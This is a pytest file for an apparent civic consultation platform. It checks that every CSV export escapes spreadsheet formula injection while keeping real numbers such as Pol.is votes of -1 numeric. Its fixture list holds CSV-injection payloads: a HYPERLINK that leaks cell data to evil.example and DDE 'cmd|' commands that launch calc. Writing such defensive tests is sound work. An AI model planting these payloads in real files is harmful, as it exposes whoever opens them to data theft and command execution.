"""Every CSV file we hand out opens safely in a spreadsheet: a resident's idea written as a
formula (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`) is text in every cell of every file, the
API's exports, the staff page's download buttons and its results.csv alike, while a real
number (a Pol.is vote of -1) stays a number, and Pol.is's own analysis still reads the files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from api import polis
from tests.web.helpers import ADMIN, sign_in

BASE = "/api/v1/consultations/test-city"
BOT = {"Authorization": "Bearer test-bot-token"}
# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Voir les résultats")',
    "+cmd|' /C calc'!A0 pour la ville",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1 il faut plus de bancs",
    "\uff1dHYPERLINK(\"http://evil.example\") pleine chasse",  # a full-width equals sign
]
HOSTILE_PLACES = {"district": "=cmd|' /C calc'!A0", "centre": "@SUM(A1:A9)"}


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def every_cell(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(client: TestClient) -> TestClient:
    """Residents sent formula ideas (accepted by a moderator) and voted on them, and a
    profile carries formulas in its district and centre."""
    for n, text in enumerate(HOSTILE):
        idea = {"participant": f"ref-hostile-{n:03d}", "text": text, "language": "fr",
                "channel": "sms", "idempotency_key": f"sms:SMhostile{n}:0"}  # fmt: skip
        made = client.post(f"{BASE}/ideas", json=idea, headers=BOT)
        assert made.status_code in (200, 201), made.text
        accepted = client.post(f"{BASE}/proposals/{made.json()['id']}/accept", headers=ADMIN)
        assert accepted.status_code == 200, accepted.text
    proposals = client.get(f"{BASE}/proposals", headers=ADMIN).json()
    ballots = [
        {"participant": f"ref-voter-{n:03d}", "proposal_id": p["id"], "channel": "sms",
         "choice": "disagree" if n % 2 else "agree",
         "idempotency_key": f"key-{n:03d}-{p['id']:04d}"}
        for n in range(4) for p in proposals
    ]  # fmt: skip
    assert client.post(f"{BASE}/ballots", json={"ballots": ballots}, headers=BOT).status_code == 200
    profile = {"channel": "sms", **HOSTILE_PLACES}
    put = client.put(f"{BASE}/participants/ref-voter-000/profile", json=profile, headers=BOT)
    assert put.status_code == 200, put.text
    return client


def downloads(client: TestClient) -> dict[str, str]:
    """Every CSV a person can take away: the API's exports, the page's buttons, its CSV."""
    files = {}
    for name in client.get(f"{BASE}/exports", headers=ADMIN).json():
        files[f"api {name}"] = client.get(f"{BASE}/exports/{name}", headers=ADMIN).text
    assert sign_in(client).status_code == 303
    for name in client.get(f"{BASE}/exports", headers=ADMIN).json():
        page = client.get(f"/staff/results/exports/{name}")
        assert page.status_code == 200
        files[f"page {name}"] = page.text
    files["page results as shown"] = client.get("/staff/results/results.csv").text
    return files


def test_no_cell_of_any_file_is_a_formula_and_numbers_stay_numbers(hostile: TestClient) -> None:
    files = downloads(hostile)
    assert len(files) == 2 * 8 + 1

    for name, text in files.items():
        for cell in every_cell(text):
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (name, cell)
            assert not cell.startswith("\uff1d"), (name, cell)
    # The ideas are there, as text: an apostrophe first, which a spreadsheet does not show.
    for name in ("api proposals.csv", "api results.csv", "api polis/comments.csv",
                 "page results as shown", "page polis/comments.csv"):  # fmt: skip
        cells = every_cell(files[name])
        assert all(f"'{idea}" in cells for idea in HOSTILE), name
    people = every_cell(files["api participants.csv"])
    assert all(f"'{value}" in people for value in HOSTILE_PLACES.values())
    # -1 is a number: a disagreeing vote, a proposal of the city (no author).
    assert "-1" in every_cell(files["api polis/votes.csv"])
    assert "-1" in every_cell(files["api polis/comments.csv"])


def test_pol_is_s_own_analysis_still_reads_the_files(hostile: TestClient, tmp_path: Path) -> None:
    """Read as Pol.is's Python analysis (polismath) reads an export: pandas.read_csv, votes as
    numbers, comments moderated == 1; and by our reader of Pol.is open data."""
    folder = tmp_path / "polis"
    folder.mkdir()
    for name in polis.FILES:
        text = hostile.get(f"{BASE}/exports/polis/{name}", headers=ADMIN).text
        (folder / name).write_text(text, encoding="utf-8")

    votes = pd.read_csv(folder / "votes.csv")
    assert votes["vote"].dtype.kind == "i" and set(votes["vote"]) == {-1, 1}
    comments = pd.read_csv(folder / "comments.csv")
    assert comments["author-id"].dtype.kind == "i" and -1 in set(comments["author-id"])
    accepted = comments[comments["moderated"] == 1]
    assert {f"'{idea}" for idea in HOSTILE} <= set(accepted["comment-body"])
    assert [int(t) for t in accepted["timestamp"]]  # as polismath takes them
    matrix = pd.read_csv(folder / "participants-votes.csv")
    by_comment = matrix[[c for c in matrix.columns if c.isdigit()]]
    assert by_comment.dtypes.map(lambda t: t.kind in "if").all()  # numbers, NaN where none

    conversation = polis.read(folder)
    assert len(conversation.votes) == len(votes)
    assert {c.body for c in conversation.comments} >= {f"'{idea}" for idea in HOSTILE}
